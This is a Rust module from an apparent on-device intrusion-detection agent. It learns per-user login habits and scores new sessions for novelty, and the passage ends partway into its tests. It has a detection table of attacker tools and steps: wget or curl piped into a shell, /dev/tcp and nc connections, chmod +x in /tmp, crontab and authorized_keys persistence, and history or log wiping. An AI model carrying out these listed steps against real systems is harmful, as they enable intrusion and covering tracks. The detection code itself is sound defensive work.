//! Per-entity behavioural baselines: what is usual for each user and for the
//! device, learnt on the device from sessions judged Normal, and the novelty
//! of a new session against them, as extra features and as operator reasons.
//!
//! This is the checklist of Elastic's UEBA jobs (rare hour per user, rare
//! source per user, rare user, spikes in logins and failures) at a thousandth
//! of their memory: every structure is fixed-size or capped, so the whole
//! state of a device with 64 users stays in tens of kilobytes (see
//! [`Baselines::state_size`]) and persists to one small postcard file written
//! atomically.
//!
//! Per user: a login-hour histogram, the known source networks (IPv4 /24,
//! IPv6 /48; a small LRU set), the protocols used (a bitset), the typical
//! session length and command cadence (EWMAs in log space, so "twice as long"
//! counts the same at any scale), and the usual command names (a small set of
//! hashes). Per device: the usual number of failed logins and of logins per
//! hour (EWMA mean and variance).

use std::hash::Hasher;
use std::net::IpAddr;
use std::path::Path;

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use bfp_common::fingerprint::is_risky_command;
use bfp_common::schema::NOVELTY_FEATURE_COUNT;
use bfp_common::{Fingerprint, Protocol};

/// First bytes of a baseline state file: another file fails fast.
pub const STATE_MAGIC: [u8; 4] = *b"BFPB";
/// Version of the state layout below. A file of another version is refused
/// (with a clear error) and the agent starts a fresh baseline.
pub const STATE_VERSION: u16 = 2;
/// Source networks remembered per user (a travelling admin has a few; more
/// would only remember attackers' networks if a bad session were ever learnt).
pub const MAX_NETWORKS_PER_USER: usize = 8;
/// Command names remembered per user.
pub const MAX_COMMANDS_PER_USER: usize = 32;
/// Hard ceiling on [`BaselineConfig::max_users`], whatever the configuration.
pub const MAX_USERS_LIMIT: usize = 4096;

/// Tuning of the baselines. Not persisted: it comes from the agent's config.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct BaselineConfig {
    /// Most users remembered; when full, the user seen least recently is
    /// forgotten. Default 64 (about 400 bytes each). Capped at
    /// [`MAX_USERS_LIMIT`].
    pub max_users: usize,
    /// Normal sessions a user needs before their hours, session length and
    /// cadence are judged (too few and everything looks rare). Default 5.
    pub min_sessions: u32,
    /// A login hour is rare for a user when the hour and its two neighbours
    /// hold less than this share of the user's logins. Default 0.05.
    pub rare_hour_share: f32,
    /// Weight of the newest value in the moving averages. Default 0.1 (about
    /// the last 20 sessions or hours matter).
    pub ewma_alpha: f32,
    /// How many standard deviations (in log space) make a session length or
    /// command cadence unusual. Default 3.0.
    pub unusual_z: f32,
    /// How many standard deviations above the usual hourly rate make a spike
    /// of failures or logins. Default 3.0.
    pub spike_z: f32,
    /// Fewest failed logins in one hour that can be a failure spike, whatever
    /// the baseline (a user mistyping thrice is no spike). Default 20.
    pub spike_min_failures: u32,
    /// A user arriving from this many networks new to them within 24 hours
    /// (this one included) is not travelling: the account is being used
    /// from all over. Default 4.
    pub churn_networks: u32,
    /// Fewest logins in one hour that can be a login spike. Default 10.
    pub spike_min_logins: u32,
    /// Hours the device rates need before spikes are judged. Default 24.
    pub min_hours: u32,
}

impl Default for BaselineConfig {
    fn default() -> Self {
        BaselineConfig {
            max_users: 64,
            min_sessions: 5,
            rare_hour_share: 0.05,
            ewma_alpha: 0.1,
            unusual_z: 3.0,
            spike_z: 3.0,
            spike_min_failures: 20,
            churn_networks: 4,
            spike_min_logins: 10,
            min_hours: 24,
        }
    }
}

/// What the baselines need to know of one session. Built from the analyzer's
/// session observation (see [`SessionFacts::new`]).
#[derive(Debug, Clone, Copy)]
pub struct SessionFacts<'a> {
    /// The session's user.
    pub user: &'a str,
    /// Where it came from; `None` for a local login (console, su).
    pub source_ip: Option<IpAddr>,
    /// Start, unix seconds.
    pub start: i64,
    /// Its fingerprint (login hour, protocol, duration, command count).
    pub fingerprint: &'a Fingerprint,
    /// The command lines run, when the log gives them.
    pub commands: &'a [String],
    /// Still open: its duration and cadence are not final, so not judged.
    pub open: bool,
}

impl<'a> SessionFacts<'a> {
    /// Facts of a session.
    pub fn new(
        user: &'a str,
        source_ip: Option<IpAddr>,
        start: i64,
        fingerprint: &'a Fingerprint,
        commands: &'a [String],
        open: bool,
    ) -> Self {
        SessionFacts { user, source_ip, start, fingerprint, commands, open }
    }
}

/// How a session differs from what is usual. Every flag is false for a user
/// doing what they usually do.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Novelty {
    /// This device has no baseline for the user (Elastic's "rare user").
    pub never_seen_user: bool,
    /// The user (with enough history) rarely or never logs in at this hour.
    pub rare_hour_for_user: bool,
    /// The user has never logged in from this /24 (IPv4) or /48 (IPv6).
    pub new_network_for_user: bool,
    /// The user has never logged in over this protocol.
    pub new_protocol_for_user: bool,
    /// The session is far longer or shorter than the user's usual.
    pub unusual_session_length: bool,
    /// Commands per minute far from the user's usual.
    pub unusual_command_cadence: bool,
    /// Command names the user (with enough history) has never run.
    pub new_commands: u32,
    /// A risky command (download, chmod +x, persistence, history wiping)
    /// this user has never run before.
    pub first_risky_command: bool,
    /// The device sees far more failed logins this hour than usual.
    pub failure_spike: bool,
    /// The device sees far more logins this hour than usual.
    pub login_spike: bool,
    /// The user's account arrives from many networks new to it within a day
    /// (see [`BaselineConfig::churn_networks`]).
    pub network_churn: bool,
    /// A root shell (`sudo -i`, `sudo su -`, `sudo bash`) by a user with
    /// enough history who never opened one.
    pub first_root_shell: bool,
    /// An account change (`useradd`, `usermod -aG sudo`, `passwd root`) by
    /// a user with enough history who never made one.
    pub first_account_change: bool,
    /// The device has learnt at least `min_sessions` sessions (of any
    /// users): only then is a never-seen user news. On a fresh install
    /// every user is new, the admins' set-up sessions first of all.
    pub device_has_history: bool,
    /// The flags above in an operator's words.
    pub reasons: Vec<String>,
}

impl Novelty {
    /// The novelty as extra model features, in [`NOVELTY_FEATURE_NAMES`](bfp_common::schema::NOVELTY_FEATURE_NAMES)
    /// order (flags as 0/1).
    pub fn features(&self) -> [f32; NOVELTY_FEATURE_COUNT] {
        let f = |b: bool| if b { 1.0 } else { 0.0 };
        [
            f(self.never_seen_user),
            f(self.rare_hour_for_user),
            f(self.new_network_for_user),
            f(self.new_protocol_for_user),
            f(self.unusual_session_length),
            f(self.unusual_command_cadence),
            self.new_commands as f32,
            f(self.first_risky_command),
            f(self.failure_spike),
            f(self.login_spike),
            f(self.network_churn),
        ]
    }

    /// Whether anything at all is new.
    pub fn is_novel(&self) -> bool {
        self.features().iter().any(|&x| x > 0.0)
    }

    /// Whether the novelty alone makes the session Suspicious, whatever the
    /// model says: a risky command the user never ran, together with a new
    /// network, a rare hour or (on a device with a history) an unknown user;
    /// or an account arriving from network after network within a day. A new
    /// network or a rare hour alone does not: travelling and night-shift
    /// admins do both.
    pub fn escalates(&self) -> bool {
        self.network_churn
            || self.escalation_is_new()
            || (self.first_risky_command
                && (self.new_network_for_user
                    || self.rare_hour_for_user
                    || (self.never_seen_user && self.device_has_history)))
    }

    /// A first root shell or account change by a known user, together with
    /// something else new (a network, an hour, a risky command): an account
    /// taken over and being made an admin. Alone it is a reason, not a
    /// verdict: admins take up `sudo -i` one day.
    pub fn escalation_is_new(&self) -> bool {
        (self.first_root_shell || self.first_account_change)
            && (self.new_network_for_user || self.rare_hour_for_user || self.first_risky_command)
    }
}

/// Marker names the baselines remember beside a user's command names: that
/// the user opened a root shell, or changed accounts.
const ROOT_SHELL_MARKER: &str = "(root shell)";
const ACCOUNT_CHANGE_MARKER: &str = "(account change)";

/// The names learnt from a session's commands: each program's name, and the
/// markers of a root shell or an account change. Refused commands are not
/// the user's habits: a session with one is never learnt (see the detector).
fn learnt_names(commands: &[String]) -> impl Iterator<Item = &str> {
    let ran = || commands.iter().filter(|c| !crate::privilege::is_refused(c));
    let root_shell = ran().any(|c| crate::privilege::is_root_shell(c));
    let account_change = ran().any(|c| crate::privilege::is_account_change(c));
    ran()
        .flat_map(|c| command_names(c))
        .chain(root_shell.then_some(ROOT_SHELL_MARKER))
        .chain(account_change.then_some(ACCOUNT_CHANGE_MARKER))
}

/// A stable 64-bit key of an address's network: the IPv4 /24 or the IPv6 /48
/// (an IPv4-mapped IPv6 address counts as IPv4). Tagged so the two families
/// never collide.
pub fn network_key(ip: IpAddr) -> u64 {
    match canonical(ip) {
        IpAddr::V4(v4) => (1 << 63) | u64::from(u32::from(v4) >> 8),
        IpAddr::V6(v6) => (1 << 62) | (u128::from(v6) >> 80) as u64,
    }
}

/// The network of an address as an operator writes it (`203.0.113.0/24`,
/// `2001:db8:1::/48`).
pub fn network_name(ip: IpAddr) -> String {
    match canonical(ip) {
        IpAddr::V4(v4) => {
            let [a, b, c, _] = v4.octets();
            format!("{a}.{b}.{c}.0/24")
        }
        IpAddr::V6(v6) => {
            let s = v6.segments();
            format!("{}/48", std::net::Ipv6Addr::new(s[0], s[1], s[2], 0, 0, 0, 0, 0))
        }
    }
}

fn canonical(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(ip, IpAddr::V4),
        v4 => v4,
    }
}

/// Stable hash (FNV-1a) of a name: the state file must mean the same after a
/// restart or an upgrade, which std's hasher does not promise.
fn stable_hash(bytes: &[u8]) -> u64 {
    let mut h = fnv::FnvHasher::default();
    h.write(bytes);
    h.finish()
}

/// The names of the programs a command line runs: the first word of each
/// `;`, `&&`, `||` or `|` segment, without its path, skipping `sudo`,
/// `env`-style prefixes and variable assignments.
pub fn command_names(line: &str) -> impl Iterator<Item = &str> {
    line.split([';', '|', '&', '\n']).filter_map(|segment| {
        segment
            .split_whitespace()
            .find(|w| {
                !matches!(*w, "sudo" | "nohup" | "exec" | "env" | "busybox") && !w.contains('=') && !w.starts_with('-')
            })
            .map(|w| w.rsplit('/').next().unwrap_or(w))
            .filter(|w| !w.is_empty())
    })
}

/// The risky part of a session in a few words, e.g. "ran wget then chmod +x
/// in /tmp", "piped a download into sh", or `None` when nothing is risky.
pub fn describe_risky_chain(commands: &[String]) -> Option<String> {
    const LABELS: [(&str, &str); 17] = [
        ("wget", "wget"),
        ("curl", "curl"),
        ("tftp", "tftp"),
        ("ftpget", "ftpget"),
        ("/dev/tcp", "a /dev/tcp connection"),
        ("ncat", "ncat"),
        ("nc ", "nc"),
        ("base64 -d", "base64 -d"),
        ("chmod +x", "chmod +x"),
        ("chmod 777", "chmod 777"),
        ("crontab", "crontab"),
        ("authorized_keys", "an authorized_keys change"),
        ("history -c", "history -c"),
        ("unset histfile", "unset HISTFILE"),
        ("rm -rf /var/log", "rm -rf /var/log"),
        ("/tmp/", "a program in /tmp"),
        ("/dev/shm", "a program in /dev/shm"),
    ];
    let mut steps: Vec<&str> = Vec::new();
    let mut in_tmp = false;
    let mut piped_to_shell = false;
    for command in commands {
        let lower = command.to_ascii_lowercase();
        if lower.contains("/tmp") {
            in_tmp = true;
        }
        let downloads = ["wget", "curl", "tftp", "ftpget"].iter().any(|d| lower.contains(d));
        if downloads && ["| sh", "|sh", "| bash", "|bash", "| busybox sh"].iter().any(|p| lower.contains(p)) {
            piped_to_shell = true;
        }
        if !is_risky_command(command) {
            continue;
        }
        for (needle, label) in LABELS {
            // "a program in /tmp" only when nothing more telling matched.
            if lower.contains(needle) && !steps.contains(&label) {
                if needle == "/tmp/" && (in_tmp && !steps.is_empty()) {
                    continue;
                }
                steps.push(label);
            }
        }
    }
    if steps.is_empty() && !piped_to_shell {
        return None;
    }
    let mut text = if piped_to_shell {
        let first =
            steps.iter().find(|s| ["wget", "curl", "tftp", "ftpget"].contains(s)).copied().unwrap_or("a download");
        let rest: Vec<&str> =
            steps.iter().copied().filter(|s| *s != first && !s.starts_with("a program in")).take(3).collect();
        let mut t = format!("piped a {first} download into a shell");
        if !rest.is_empty() {
            t.push_str(", then ");
            t.push_str(&rest.join(" then "));
        }
        t
    } else {
        steps.truncate(4);
        format!("ran {}", steps.join(" then "))
    };
    if in_tmp && !text.contains("/tmp") {
        text.push_str(" in /tmp");
    }
    Some(text)
}

/// A mean and variance that forget old values exponentially.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
struct Ewma {
    mean: f32,
    var: f32,
    n: u32,
}

impl Ewma {
    fn update(&mut self, x: f32, alpha: f32) {
        if !x.is_finite() {
            return;
        }
        if self.n == 0 {
            self.mean = x;
            self.var = 0.0;
        } else {
            // West's incremental form of the exponentially weighted variance.
            let diff = x - self.mean;
            let incr = alpha * diff;
            self.mean += incr;
            self.var = (1.0 - alpha) * (self.var + diff * incr);
        }
        self.n = self.n.saturating_add(1);
    }

    /// How many standard deviations `x` is from the mean; the deviation has
    /// a floor so a user with very regular habits is not flagged for noise.
    fn z(&self, x: f32, floor: f32) -> f32 {
        (x - self.mean) / self.var.sqrt().max(floor)
    }
}

/// One remembered source network of a user.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
struct NetworkSeen {
    key: u64,
    /// Unix hour of the first normal login from it (for churn).
    first_hour: u32,
    /// Unix hour of the last normal login from it (for LRU replacement).
    last_hour: u32,
    logins: u16,
}

/// One remembered command name of a user.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
struct CommandSeen {
    hash: u32,
    uses: u16,
}

/// Everything remembered of one user: about 400 bytes, whatever they do.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
struct UserBaseline {
    /// Stable hash of the user name (names are not kept: less to leak).
    user: u64,
    sessions: u32,
    /// Unix hour of the last normal session (for LRU eviction of users).
    last_hour: u32,
    /// Logins per hour of day; halved when large so habits can change.
    hours: [u16; 24],
    networks: heapless::Vec<NetworkSeen, MAX_NETWORKS_PER_USER>,
    /// Bit `Protocol::code()` set for each protocol seen.
    protocols: u8,
    /// ln(1 + minutes) of closed sessions.
    length: Ewma,
    /// ln(1 + commands per minute) of closed sessions with commands.
    cadence: Ewma,
    commands: heapless::Vec<CommandSeen, MAX_COMMANDS_PER_USER>,
}

/// Past this many logins in the hour histogram, it is halved: recent habits
/// weigh more, and the counters never overflow.
const HOUR_HISTOGRAM_CAP: u32 = 512;
/// Floor of the log-space standard deviation (ln 2: "twice as long").
const LOG_STD_FLOOR: f32 = std::f32::consts::LN_2;

impl UserBaseline {
    fn new(user: u64) -> Self {
        UserBaseline {
            user,
            sessions: 0,
            last_hour: 0,
            hours: [0; 24],
            networks: heapless::Vec::new(),
            protocols: 0,
            length: Ewma::default(),
            cadence: Ewma::default(),
            commands: heapless::Vec::new(),
        }
    }

    /// Share of the user's logins at `hour` and its two neighbours.
    fn hour_share(&self, hour: u8) -> f32 {
        let total: u32 = self.hours.iter().map(|&c| u32::from(c)).sum();
        if total == 0 {
            return 0.0;
        }
        let h = usize::from(hour % 24);
        let near =
            u32::from(self.hours[(h + 23) % 24]) + u32::from(self.hours[h]) + u32::from(self.hours[(h + 1) % 24]);
        near as f32 / total as f32
    }

    fn knows_network(&self, key: u64) -> bool {
        self.networks.iter().any(|n| n.key == key)
    }

    fn knows_command(&self, hash: u32) -> bool {
        self.commands.iter().any(|c| c.hash == hash)
    }
}

fn command_hash(name: &str) -> u32 {
    stable_hash(name.as_bytes()) as u32
}

fn protocol_bit(p: Protocol) -> u8 {
    1 << (p.code() as u8)
}

fn unix_hour(t: i64) -> u32 {
    t.div_euclid(3600).clamp(0, i64::from(u32::MAX)) as u32
}

/// A per-hour rate of the device (failed logins, logins): the count of the
/// current hour and the usual count per hour.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
struct HourlyRate {
    /// Unix hour being counted (0 before the first event).
    hour: u32,
    count: u32,
    usual: Ewma,
}

impl HourlyRate {
    fn roll(&mut self, at: i64, cfg: &BaselineConfig, min_count: u32) {
        let hour = unix_hour(at);
        if hour <= self.hour {
            return; // same hour, or a late line from an earlier one: count it here
        }
        if self.hour != 0 {
            // A spike hour is an attack, not the usual: it does not teach.
            if !self.is_spike(cfg, min_count) {
                self.usual.update(self.count as f32, cfg.ewma_alpha);
            }
            // Quiet hours in between count as zeros (at most a day of them:
            // after that, the average has forgotten the older hours anyway).
            for _ in 0..(hour - self.hour - 1).min(24) {
                self.usual.update(0.0, cfg.ewma_alpha);
            }
        }
        self.hour = hour;
        self.count = 0;
    }

    fn add(&mut self, at: i64, n: u32, cfg: &BaselineConfig, min_count: u32) {
        self.roll(at, cfg, min_count);
        self.count = self.count.saturating_add(n);
    }

    fn is_spike(&self, cfg: &BaselineConfig, min_count: u32) -> bool {
        self.count >= min_count && self.usual.n >= cfg.min_hours && self.usual.z(self.count as f32, 1.0) > cfg.spike_z
    }
}

/// The persisted part of [`Baselines`].
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
struct State {
    magic: [u8; 4],
    version: u16,
    users: Vec<UserBaseline>,
    failures: HourlyRate,
    logins: HourlyRate,
}

/// The baselines of one device: every user's habits and the device's usual
/// rates. Bounded by [`BaselineConfig::max_users`].
#[derive(Debug, Clone, PartialEq)]
pub struct Baselines {
    config: BaselineConfig,
    state: State,
}

impl Baselines {
    /// Empty baselines.
    pub fn new(config: BaselineConfig) -> Self {
        let mut config = config;
        config.max_users = config.max_users.clamp(1, MAX_USERS_LIMIT);
        Baselines { config, state: State { magic: STATE_MAGIC, version: STATE_VERSION, ..State::default() } }
    }

    /// The configuration in force.
    pub fn config(&self) -> &BaselineConfig {
        &self.config
    }

    /// Users remembered.
    pub fn user_count(&self) -> usize {
        self.state.users.len()
    }

    /// Normal sessions learnt for `user` (0 when unknown).
    pub fn sessions_of(&self, user: &str) -> u32 {
        self.find(user).map_or(0, |u| u.sessions)
    }

    /// Bytes of the persisted state: what the baselines cost.
    pub fn state_size(&self) -> usize {
        postcard::experimental::serialized_size(&self.state).unwrap_or(usize::MAX)
    }

    /// Whether the device has learnt enough sessions (of any users,
    /// `min_sessions`) for "never seen" to be news: on a fresh install every
    /// user and every network is new.
    pub fn has_history(&self) -> bool {
        let learnt: u32 = self.state.users.iter().map(|u| u.sessions).fold(0, u32::saturating_add);
        learnt >= self.config.min_sessions
    }

    /// How many users the device has learnt sessions of from `ip`'s network
    /// (its /24 or /48): 0 for a network no known user comes from. A new
    /// account from the admins' usual address is not a stranger's.
    pub fn users_from_network(&self, ip: IpAddr) -> u32 {
        let key = network_key(ip);
        self.state.users.iter().filter(|u| u.knows_network(key)).count() as u32
    }

    fn find(&self, user: &str) -> Option<&UserBaseline> {
        let key = stable_hash(user.as_bytes());
        self.state.users.iter().find(|u| u.user == key)
    }

    /// Counts failed logins on the device (every one, whatever its verdict:
    /// the spike detector needs them all).
    pub fn observe_failures(&mut self, at: i64, count: u32) {
        let min = self.config.spike_min_failures;
        self.state.failures.add(at, count, &self.config, min);
    }

    /// Counts one successful login on the device.
    pub fn observe_login(&mut self, at: i64) {
        let min = self.config.spike_min_logins;
        self.state.logins.add(at, 1, &self.config, min);
    }

    /// How `session` differs from its user's baseline and the device's. Does
    /// not change the baselines.
    pub fn novelty(&self, session: &SessionFacts<'_>) -> Novelty {
        let cfg = &self.config;
        let fp = session.fingerprint;
        let user = session.user;
        let mut n = Novelty::default();
        let known = self.find(user).filter(|u| u.sessions > 0);
        let mature = known.filter(|u| u.sessions >= cfg.min_sessions);
        let learnt: u32 = self.state.users.iter().map(|u| u.sessions).fold(0, u32::saturating_add);
        n.device_has_history = learnt >= cfg.min_sessions;

        match known {
            None => {
                n.never_seen_user = true;
                n.reasons.push(format!("first login by {user} on this device"));
            }
            Some(u) => {
                if let Some(ip) = session.source_ip {
                    if !u.knows_network(network_key(ip)) {
                        n.new_network_for_user = true;
                        n.reasons.push(format!("first login by {user} from {} ({ip})", network_name(ip)));
                        // Networks first seen in the last 24 hours, this one included.
                        let day_ago = unix_hour(session.start).saturating_sub(24);
                        let fresh = 1 + u.networks.iter().filter(|n| n.first_hour >= day_ago).count() as u32;
                        if u.networks.len() > 1 && fresh >= cfg.churn_networks {
                            n.network_churn = true;
                            n.reasons
                                .push(format!("{user} logged in from {fresh} networks new to them within 24 hours"));
                        }
                    }
                }
                if u.protocols & protocol_bit(fp.protocol) == 0 {
                    n.new_protocol_for_user = true;
                    n.reasons.push(format!("first {} login by {user}", fp.protocol));
                }
            }
        }

        if let Some(u) = mature {
            let share = u.hour_share(fp.login_hour);
            if share < cfg.rare_hour_share {
                n.rare_hour_for_user = true;
                let h = fp.login_hour;
                if u.hours[usize::from(h % 24)] == 0 {
                    n.reasons.push(format!("{user} never logs in at {h:02}:00"));
                } else {
                    n.reasons.push(format!("{user} rarely logs in at {h:02}:00 ({:.0}% of logins)", share * 100.0));
                }
            }
            if !session.open {
                let minutes = fp.session_duration_min.max(0.0);
                let x = log1p(minutes);
                if u.length.n >= cfg.min_sessions && u.length.z(x, LOG_STD_FLOOR).abs() > cfg.unusual_z {
                    n.unusual_session_length = true;
                    n.reasons.push(format!(
                        "session of {} min, {user} usually stays about {} min",
                        round(minutes),
                        round(expm1(u.length.mean))
                    ));
                }
                if fp.commands > 0 {
                    let rate = fp.commands as f32 / minutes.max(1.0);
                    let x = log1p(rate);
                    if u.cadence.n >= cfg.min_sessions && u.cadence.z(x, LOG_STD_FLOOR) > cfg.unusual_z {
                        n.unusual_command_cadence = true;
                        n.reasons.push(format!(
                            "{} commands a minute, {user} usually runs about {}",
                            round(rate),
                            round(expm1(u.cadence.mean))
                        ));
                    }
                }
            }
            let mut fresh: Vec<&str> = Vec::new();
            // A refused command did not run (the escalation features count
            // it): it is no new habit, and `sudo(denied: ...)` no name.
            let ran_commands = session.commands.iter().filter(|c| !crate::privilege::is_refused(c));
            for name in ran_commands.flat_map(|c| command_names(c)) {
                if !u.knows_command(command_hash(name)) && !fresh.contains(&name) {
                    fresh.push(name);
                }
            }
            n.new_commands = fresh.len() as u32;
            let ran = || session.commands.iter().filter(|c| !crate::privilege::is_refused(c));
            if ran().any(|c| crate::privilege::is_root_shell(c)) && !u.knows_command(command_hash(ROOT_SHELL_MARKER)) {
                n.first_root_shell = true;
                n.reasons.push(format!("{user} opened a root shell, a first for them"));
            }
            if ran().any(|c| crate::privilege::is_account_change(c))
                && !u.knows_command(command_hash(ACCOUNT_CHANGE_MARKER))
            {
                n.first_account_change = true;
                n.reasons.push(format!("{user} changed accounts or passwords, a first for them"));
            }
            if !fresh.is_empty() && !u.commands.is_full() {
                // A full set is a busy admin's; a new name there says little.
                let shown: Vec<&str> = fresh.iter().copied().take(4).collect();
                n.reasons.push(format!("{user} ran commands never seen from them: {}", shown.join(", ")));
            }
        }

        // A risky command is a first when the user never ran that program.
        let risky_first =
            session.commands.iter().filter(|c| is_risky_command(c) && !crate::privilege::is_refused(c)).any(|c| {
                match known {
                    None => true,
                    Some(u) => command_names(c).any(|name| !u.knows_command(command_hash(name))),
                }
            });
        if risky_first {
            n.first_risky_command = true;
            let chain = describe_risky_chain(session.commands).unwrap_or_else(|| "ran a risky command".into());
            if known.is_some() {
                n.reasons.push(format!("{chain}, a first for {user}"));
            } else {
                n.reasons.push(chain);
            }
        }

        let failures = &self.state.failures;
        if failures.hour == unix_hour(session.start) && failures.is_spike(cfg, cfg.spike_min_failures) {
            n.failure_spike = true;
            n.reasons.push(format!(
                "{} failed logins on this device this hour, usually about {}",
                failures.count,
                round(failures.usual.mean)
            ));
        }
        let logins = &self.state.logins;
        if logins.hour == unix_hour(session.start) && logins.is_spike(cfg, cfg.spike_min_logins) {
            n.login_spike = true;
            n.reasons.push(format!(
                "{} logins on this device this hour, usually about {}",
                logins.count,
                round(logins.usual.mean)
            ));
        }
        n
    }

    /// Learns `session` into its user's baseline, only if it was judged
    /// Normal (`suspicious == false`): an attacker's session must never
    /// become the usual. Returns whether it was learnt.
    pub fn learn(&mut self, session: &SessionFacts<'_>, suspicious: bool) -> bool {
        if suspicious {
            return false;
        }
        let alpha = self.config.ewma_alpha;
        let hour_now = unix_hour(session.start);
        let key = stable_hash(session.user.as_bytes());
        let idx = match self.state.users.iter().position(|u| u.user == key) {
            Some(i) => i,
            None => {
                if self.state.users.len() >= self.config.max_users {
                    // Forget the user seen least recently (then the one with
                    // the fewest sessions): a flood of new names cannot push
                    // out the regular admins who were here this week.
                    let victim = self
                        .state
                        .users
                        .iter()
                        .enumerate()
                        .min_by_key(|(_, u)| (u.last_hour, u.sessions))
                        .map(|(i, _)| i)
                        .unwrap_or(0);
                    self.state.users.swap_remove(victim);
                }
                self.state.users.push(UserBaseline::new(key));
                self.state.users.len() - 1
            }
        };
        let u = &mut self.state.users[idx];
        let fp = session.fingerprint;
        u.sessions = u.sessions.saturating_add(1);
        u.last_hour = u.last_hour.max(hour_now);

        u.hours[usize::from(fp.login_hour % 24)] += 1;
        if u.hours.iter().map(|&c| u32::from(c)).sum::<u32>() > HOUR_HISTOGRAM_CAP {
            for c in &mut u.hours {
                *c /= 2;
            }
        }

        if let Some(ip) = session.source_ip {
            let net = network_key(ip);
            if let Some(seen) = u.networks.iter_mut().find(|n| n.key == net) {
                seen.last_hour = seen.last_hour.max(hour_now);
                seen.logins = seen.logins.saturating_add(1);
            } else {
                let entry = NetworkSeen { key: net, first_hour: hour_now, last_hour: hour_now, logins: 1 };
                if let Err(entry) = u.networks.push(entry) {
                    // Full: the network unused the longest goes.
                    if let Some(oldest) = u.networks.iter_mut().min_by_key(|n| (n.last_hour, n.logins)) {
                        *oldest = entry;
                    }
                }
            }
        }

        u.protocols |= protocol_bit(fp.protocol);

        if !session.open {
            let minutes = fp.session_duration_min.max(0.0);
            u.length.update(log1p(minutes), alpha);
            if fp.commands > 0 {
                u.cadence.update(log1p(fp.commands as f32 / minutes.max(1.0)), alpha);
            }
        }

        for name in learnt_names(session.commands) {
            let hash = command_hash(name);
            if let Some(seen) = u.commands.iter_mut().find(|c| c.hash == hash) {
                seen.uses = seen.uses.saturating_add(1);
                if seen.uses == u16::MAX {
                    for c in u.commands.iter_mut() {
                        c.uses /= 2;
                    }
                }
            } else if let Err(entry) = u.commands.push(CommandSeen { hash, uses: 1 }) {
                // Full: the least used name goes (ties: the older one).
                if let Some(rarest) = u.commands.iter_mut().min_by_key(|c| c.uses) {
                    *rarest = entry;
                }
            }
        }
        true
    }

    /// The state file's bytes: magic, version, then postcard.
    pub fn to_bytes(&self) -> Result<Vec<u8>> {
        postcard::to_allocvec(&self.state).map_err(|e| Error::Baseline(format!("encode: {e}")))
    }

    /// Reads a state file's bytes, checking magic, version and bounds.
    pub fn from_bytes(bytes: &[u8], config: BaselineConfig) -> Result<Baselines> {
        if bytes.len() < STATE_MAGIC.len() || bytes[..STATE_MAGIC.len()] != STATE_MAGIC {
            return Err(Error::Baseline("not a baseline state file (bad magic)".into()));
        }
        // The version first: another layout would not even decode.
        let (_, version): ([u8; 4], u16) = postcard::take_from_bytes::<([u8; 4], u16)>(bytes)
            .map(|(header, _)| header)
            .map_err(|e| Error::Baseline(format!("decode: {e}")))?;
        if version != STATE_VERSION {
            return Err(Error::Baseline(format!(
                "state version {version} is not supported (this build reads {STATE_VERSION})"
            )));
        }
        let (state, rest): (State, &[u8]) =
            postcard::take_from_bytes(bytes).map_err(|e| Error::Baseline(format!("decode: {e}")))?;
        if !rest.is_empty() {
            return Err(Error::Baseline(format!("{} trailing bytes after the state", rest.len())));
        }
        let mut baselines = Baselines::new(config);
        if state.users.len() > baselines.config.max_users {
            return Err(Error::Baseline(format!(
                "{} users stored, more than max_users = {}",
                state.users.len(),
                baselines.config.max_users
            )));
        }
        baselines.state = state;
        Ok(baselines)
    }

    /// Writes the state file's bytes ([`Baselines::to_bytes`]) to `out`.
    /// Making them durable is the caller's job: the agent writes them with
    /// its state directory's one atomic write, beside the checkpoint.
    pub fn save(&self, out: &mut dyn std::io::Write) -> Result<()> {
        let bytes = self.to_bytes()?;
        out.write_all(&bytes).map_err(|e| Error::Baseline(format!("write: {e}")))
    }

    /// Reads the state file at `path`.
    pub fn load(path: &Path, config: BaselineConfig) -> Result<Baselines> {
        let bytes = std::fs::read(path).map_err(|e| Error::Baseline(format!("read {}: {e}", path.display())))?;
        Baselines::from_bytes(&bytes, config).map_err(|e| Error::Baseline(format!("{}: {e}", path.display())))
    }

    /// Reads the state file at `path`, or starts fresh baselines when it is
    /// missing (first start: no error) or unreadable (the error is returned
    /// beside the fresh baselines, for the operator's log; never a crash).
    pub fn load_or_fresh(path: &Path, config: BaselineConfig) -> (Baselines, Option<Error>) {
        if !path.exists() {
            return (Baselines::new(config), None);
        }
        match Baselines::load(path, config.clone()) {
            Ok(b) => (b, None),
            Err(e) => (Baselines::new(config), Some(e)),
        }
    }
}

/// ln(1 + x) in f64, rounded to f32: the C library's f32 logarithm may
/// differ by an ulp between glibc and musl, and the agent must give the same
/// verdicts on every target; after rounding from f64 they agree.
fn log1p(x: f32) -> f32 {
    f64::from(x).ln_1p() as f32
}

/// The inverse of [`log1p`], the same way.
fn expm1(x: f32) -> f32 {
    f64::from(x).exp_m1() as f32
}

/// `12` rather than `12.0`, `2.5` rather than `2.4999`.
fn round(x: f32) -> String {
    if x >= 10.0 || (x - x.round()).abs() < 0.05 {
        format!("{}", x.round() as i64)
    } else {
        format!("{x:.1}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DAY: i64 = 86_400;
    /// 2026-11-02 00:00:00 UTC, a Monday.
    const T0: i64 = 1_762_041_600;

    fn fp(hour: u8, minutes: f32, commands: u32, failed: u32, protocol: Protocol) -> Fingerprint {
        Fingerprint {
            login_hour: hour,
            session_duration_min: minutes,
            commands,
            failed_logins: failed,
            protocol,
            typing_speed_wpm: None,
            risky_commands: Some(0),
        }
    }

    fn ip(s: &str) -> Option<IpAddr> {
        Some(s.parse().unwrap())
    }

    /// Alice: three weeks of office-hours sessions from home (198.51.100.x,
    /// a dynamic address inside one /24), 20-40 minutes, a few admin commands.
    fn alice_at_home() -> Baselines {
        let mut b = Baselines::new(BaselineConfig::default());
